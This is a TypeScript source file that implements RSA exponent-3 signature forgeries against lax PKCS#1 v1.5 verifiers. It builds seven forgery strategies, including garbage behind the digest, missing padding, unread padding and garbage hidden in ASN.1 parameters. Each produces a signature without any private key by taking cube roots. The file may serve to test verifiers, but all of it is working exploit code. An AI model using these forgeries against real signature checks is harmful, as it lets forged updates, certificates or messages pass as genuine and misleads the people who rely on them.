import { createHash } from "#crypto";
import { bytesOfHex, bytesOfNumber, cubeRoot, cubeRootOfEnd, numberOfBytes } from "./rsa-numbers.ts";

/** Forges the signature of a message for a modulus and the exponent 3; `undefined` for digests that it cannot forge. */
export type Forge = (message: Uint8Array | string, modulus: bigint) => Uint8Array | undefined;

/** A forgery: a number whose cube a lax verifier takes for the padded digest. */
type Forgery = readonly [name: string, comment: string, forge: Forge];

const SEQUENCE = 0x30;
const OCTET_STRING = 0x04;
const SHA256_OID = bytesOfHex("0609608648016503040201");
/** What stands before the digest of SHA-256 in a block of PKCS#1 v1.5 (RFC 8017, section 9.2, note 1). */
export const DIGEST_INFO: readonly number[] = bytesOfHex("3031300d060960864801650304020105000420");
const EIGHT_FF = Array.from({ length: 8 }, () => 0xff);

/** Lax checks of padding in the wild since 2006, each as a forgery without any private key. */
export const forgeries: readonly Forgery[] = [
  [
    "garbage-behind-digest",
    "Eight bytes of padding, the digest, then garbage: for verifiers that stop reading behind the digest (2006).",
    beginningWith((digest) => [0, 1, ...EIGHT_FF, 0, ...DIGEST_INFO, ...digest]),
  ],
  [
    "no-padding",
    "No byte of padding, the digest, then garbage: for verifiers that count no padding.",
    beginningWith((digest) => [0, 1, 0, ...DIGEST_INFO, ...digest]),
  ],
  [
    "no-digest-name",
    "Eight bytes of padding and the bare digest, then garbage: for verifiers that skip the name of the digest.",
    beginningWith((digest) => [0, 1, ...EIGHT_FF, 0, ...digest]),
  ],
  [
    "digest-alone-at-end",
    "Garbage, then the digest with its name: for verifiers that look at the end alone.",
    endingWith((digest) => [...DIGEST_INFO, ...digest]),
  ],
  [
    "padding-unread",
    "The block's type, garbage for padding, the digest at the end: for verifiers that skip to the last bytes.",
    between(
      () => [0, 1, ...EIGHT_FF],
      (digest) => [0, ...DIGEST_INFO, ...digest],
    ),
  ],
  [
    "padding-of-any-bytes",
    "The block's type, garbage without a zero for padding, the digest at the end: for verifiers that take the first zero for the padding's end (python-rsa, 2016).",
    between(
      () => [0, 1, ...EIGHT_FF],
      (digest) => [0, ...DIGEST_INFO, ...digest],
      0x80,
    ),
  ],
  [
    "garbage-in-parameters",
    "Garbage in the parameters of the digest's name: for verifiers that read ASN.1 and skip them (2006, 2014).",
    between(withParameters, (digest) => [OCTET_STRING, digest.length, ...digest]),
  ],
];

type Part = (digest: readonly number[], length: number) => readonly number[];

/** Finds a number whose cube begins with a part: the root of that beginning, rounded up. */
function beginningWith(part: Part): Forge {
  return (message, modulus) => {
    const { digest, length } = read(message, modulus);
    const wanted = part(digest, length);
    const shift = 8n * BigInt(length - wanted.length);
    const root = cubeRoot(((numberOfBytes(wanted) + 1n) << shift) - 1n);
    return Uint8Array.from(bytesOfNumber(root, length));
  };
}

/** Finds a number whose cube ends with a part: only odd digests have such roots. */
function endingWith(part: Part): Forge {
  return (message, modulus) => {
    const { digest, length } = read(message, modulus);
    const wanted = part(digest, length);
    if (isEven(wanted)) return undefined;
    const root = cubeRootOfEnd(numberOfBytes(wanted), 8 * wanted.length);
    return Uint8Array.from(bytesOfNumber(root, length));
  };
}

/** Finds a number whose cube begins and ends with parts: its low bits settle the end, its high ones the beginning. */
function between(first: Part, last: Part, filler: 0 | 0x80 = 0): Forge {
  return (message, modulus) => {
    const { digest, length } = read(message, modulus);
    const beginning = first(digest, length);
    const end = last(digest, length);
    if (isEven(end)) return undefined;
    const bits = 8n * BigInt(end.length);
    // In the middle of what begins as wanted, so that the low bits do not carry it away.
    const middle = Array.from({ length: length - beginning.length }, (_, at) => (at === 0 ? 0x80 : filler));
    const high = cubeRoot(numberOfBytes([...beginning, ...middle]));
    let root = ((high >> bits) << bits) | cubeRootOfEnd(numberOfBytes(end), 8 * end.length);
    const hasZero = () =>
      bytesOfNumber(root ** 3n, length)
        .slice(beginning.length, -end.length)
        .includes(0);
    while (filler !== 0 && hasZero()) root += 1n << bits;
    return Uint8Array.from(bytesOfNumber(root, length));
  };
}

/** Writes ASN.1 up to the parameters, whose length covers all that is left before the digest. */
function withParameters(digest: readonly number[], length: number): readonly number[] {
  const end = 2 + digest.length;
  // The block's type, its padding, the two sequences and the parameters, each with a length in two bytes.
  const rest = length - 3 - EIGHT_FF.length - end;
  const parameters = rest - 3 * 4 - SHA256_OID.length;
  return [
    ...[0, 1, ...EIGHT_FF, 0],
    ...[SEQUENCE, 0x82, ...twoBytes(rest - 4 + end)],
    ...[SEQUENCE, 0x82, ...twoBytes(rest - 8), ...SHA256_OID],
    ...[OCTET_STRING, 0x82, ...twoBytes(parameters)],
  ];
}

function read(message: Uint8Array | string, modulus: bigint): { digest: readonly number[]; length: number } {
  const digest = [...createHash("sha256").update(message).digest()];
  return { digest, length: Math.ceil(modulus.toString(16).length / 2) };
}

function isEven(bytes: readonly number[]): boolean {
  return (bytes.at(-1) ?? 0) % 2 === 0;
}

function twoBytes(value: number): readonly number[] {
  return [value >> 8, value & 0xff];
}
